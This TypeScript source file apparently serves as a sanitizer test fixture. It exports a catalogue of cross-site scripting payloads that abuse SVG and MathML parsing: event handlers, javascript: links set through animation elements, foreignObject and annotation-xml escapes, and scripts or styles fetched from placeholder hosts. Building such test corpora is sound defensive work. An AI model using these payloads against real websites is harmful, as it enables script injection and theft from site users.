import { FAR, HIT, RUN, type Family } from './payload';

const IMAGE = `<img src="x:" onerror="${RUN}">`;

/** SVG and MathML, and the points in them where the parser switches back to HTML. */
export const NAMESPACES: Family = {
  'a drawing that loads': `<svg onload="${RUN}"><circle r="9"/></svg>`,
  'a drawing with a slash': `<svg/onload=${RUN}>`,
  'a script in a drawing': `<svg><script>${RUN}</script></svg>`,
  'a script in a drawing by address': `<svg><script href="${HIT}/a.js"/></svg>`,
  'a script as escaped words': `<svg><script>&#116;op.struck=1</script></svg>`,
  'a link in a drawing': `<svg><a xlink:href="javascript:${RUN}"><text y="9">Press</text></a></svg>`,
  'a plain link in a drawing': `<svg><a href="javascript:${RUN}"><rect width="99" height="99"/></a></svg>`,
  'a link that an animation sets': `<svg><a id="l"><animate attributeName="href" values="javascript:${RUN}"/><text>Press</text></a></svg>`,
  'a link that a set sets': `<svg><a><set attributeName="xlink:href" to="javascript:${RUN}"/><text>Press</text></a></svg>`,
  'an animation that begins': `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  'a use from elsewhere': `<svg><use href="${FAR}/a.svg#x"/></svg>`,
  'a use of data': `<svg><use xlink:href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  'an image in a drawing': `<svg><image href="${HIT}/a.png" xlink:href="${FAR}/a.png"/></svg>`,
  'an image of a filter': `<svg><filter id="f"><feImage href="${HIT}/a.png"/></filter><rect filter="url(#f)"/></svg>`,
  'HTML in a drawing': `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe>${IMAGE}</foreignObject></svg>`,
  'HTML in a description': `<svg><desc>${IMAGE}</desc><title>${IMAGE}</title></svg>`,
  'a drawing in a drawing’s HTML': `<svg><foreignObject><svg><desc><math><mi><p>${IMAGE}</svg>`,
  'a style in a drawing': `<svg><style>@import url(${FAR}/a.css);*{background:url(${HIT})}</style></svg>`,
  'a handler in a drawing’s attribute name': `<svg xmlns:x="a" x:onload="${RUN}" onload="${RUN}"></svg>`,
  'a formula': `<math><mtext>${IMAGE}</mtext></math>`,
  'a formula with a link': `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  'a formula with an action': `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">Press</maction></math>`,
  'HTML as an annotation': `<math><annotation-xml encoding="text/html">${IMAGE}</annotation-xml></math>`,
  'XHTML as an annotation': `<math><annotation-xml encoding="application/xhtml+xml"><script>${RUN}</script></annotation-xml></math>`,
  'a drawing as an annotation': `<math><annotation-xml><svg><foreignObject>${IMAGE}</foreignObject></svg></annotation-xml></math>`,
  'a drawing that a paragraph breaks': `<svg><p>${IMAGE}</p></svg>`,
  'a formula that a font breaks': `<math><font color="red">${IMAGE}</font></math>`,
  'namespaces by name': `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  'a drawing’s handler on the whole page': `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler></svg>`,
  'a cursor and a mask': `<svg><cursor href="${FAR}/a.cur"/><mask href="${HIT}"/></svg>`,
};
